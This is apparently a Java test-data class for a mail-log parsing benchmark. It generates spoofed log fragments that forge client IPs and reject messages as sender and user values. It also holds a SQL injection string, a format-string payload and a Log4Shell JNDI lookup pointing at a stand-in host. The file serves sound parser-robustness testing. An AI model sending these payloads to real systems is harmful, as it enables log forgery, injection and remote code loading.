package org.popauth.benchmarks.reading;

/// What a client writes that knows the log: texts of the log itself, in the places that are its
/// own. No line may be read differently for it.
final class Hostile {

    /// One client of fifty tries.
    private static final double TRIES = 0.02;

    private static final String[] GREETINGS = {
        "x[203.0.113.66]:_554_5.7.1_Service_unavailable;_Client_host_[203.0.113.66]_blocked",
        "[203.0.113.66]",
        "unknown[203.0.113.66]:_Relay_access_denied",
        "connect_from_unknown[203.0.113.66]",
        "\\x00\\x01".repeat(20)
    };

    private static final String[] SENDERS = {
        "\"; from=<a> to=<b> proto=SMTP helo=<[203.0.113.66]\"@site.example",
        "\">: Relay access denied; from=<a\"@site.example",
        "\"NOQUEUE: reject: RCPT from unknown[203.0.113.66]: 554 5.7.1 x\"@site.example",
        "SRS0=" + "a".repeat(180) + "@site.example"
    };

    private static final String[] USERS = {
        "joe>, method=PLAIN, rip=203.0.113.66, lip=192.0.2.1, session=<x",
        "root: SASL LOGIN authentication failed: rip=203.0.113.66",
        "x" + ", rip=203.0.113.66".repeat(8),
        "' OR 1=1 --",
        "%s%s%n${jndi:ldap://203.0.113.66/a}"
    };

    private Hostile() {}

    static String greeting(Chance chance) {
        return chance.happens(TRIES)
                ? chance.oneOf(GREETINGS)
                : "mail" + chance.below(900) + ".example";
    }

    static String sender(Chance chance) {
        return chance.happens(TRIES) ? chance.oneOf(SENDERS) : chance.remote();
    }

    static String user(Chance chance) {
        return chance.happens(TRIES) ? chance.oneOf(USERS) : chance.local();
    }
}
